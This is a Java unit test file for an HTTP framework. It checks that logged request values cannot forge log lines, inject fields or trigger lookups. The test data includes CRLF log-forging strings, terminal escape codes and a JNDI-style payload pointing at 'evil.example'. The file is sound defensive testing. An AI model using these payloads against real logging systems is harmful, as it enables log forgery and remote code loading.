package io.quintet.http;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.logging.Handler;
import java.util.logging.Level;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import java.util.logging.SimpleFormatter;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** What comes from a request stays one value of one line in every log. */
class LogEncodingTest {
  private final Logger logger = Logger.getLogger("io.quintet.http");
  private final List<String> lines = new ArrayList<>();
  private final Handler handler =
      new Handler() {
        private final SimpleFormatter formatter = new SimpleFormatter();

        @Override
        public void publish(LogRecord logged) {
          lines.add(formatter.formatMessage(logged));
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
      };

  private final HttpApplication app =
      TestSite.app(routes -> {
        routes.path("<path:path>", (Request request, String path) -> Response.text("x"));
        routes.path("form/", request -> Response.text("x")).methods("POST");
        routes.path(
            "fails/",
            request -> {
              throw new IllegalStateException(request.query().get("q", ""));
            });
      });

  @BeforeEach
  void listen() {
    logger.setLevel(Level.ALL);
    logger.addHandler(handler);
  }

  @AfterEach
  void stop() {
    logger.removeHandler(handler);
    logger.setLevel(null);
  }

  private void assertOneLineEach() {
    assertThat(lines)
        .isNotEmpty()
        .allSatisfy(line ->
            assertThat(line.chars())
                .as(line)
                .noneMatch(c -> c < 0x20 || (c >= 0x7f && c < 0xa0) || c == 0x2028 || c == 0x2029));
  }

  @Test
  void controlCharactersAreEscaped() {
    for (String hostile :
        List.of(
            "%0d%0aINFO: forged", "%1b%5b31mred", "%c2%85next", "%e2%80%a8line", "%7f", "%08%08")) {
      app.handle(Request.get("/" + hostile));
      app.handle(Request.builder("POST", "/" + hostile + "?a=" + hostile).build());
      app.handle(Request.get("/fails/?q=" + hostile));
    }
    app.handle(Request.builder("GET", "/").header("Host", "evil\u00a0\tx").build());
    assertOneLineEach();
  }

  @Test
  void aValueCannotAddAFieldToItsLine() {
    app.handle(Request.get("/a%22%20status=500%20id=%22x%5c%22"));
    assertThat(lines)
        .anySatisfy(line ->
            assertThat(line)
                .startsWith("method=GET path=\"/a\\\" status=500 id=\\\"x\\\\\\\"\" status=200 "));
  }

  @Test
  void nothingIsLookedUpOrFilledIn() {
    app.handle(Request.get("/${jndi:ldap://evil.example/a}"));
    app.handle(Request.builder("POST", "/{0}{1}%25s").build());
    assertThat(lines)
        .anySatisfy(line -> assertThat(line).contains("${jndi:ldap://evil.example/a}"))
        .anySatisfy(line -> assertThat(line).contains("{0}{1}%s"));
  }
}
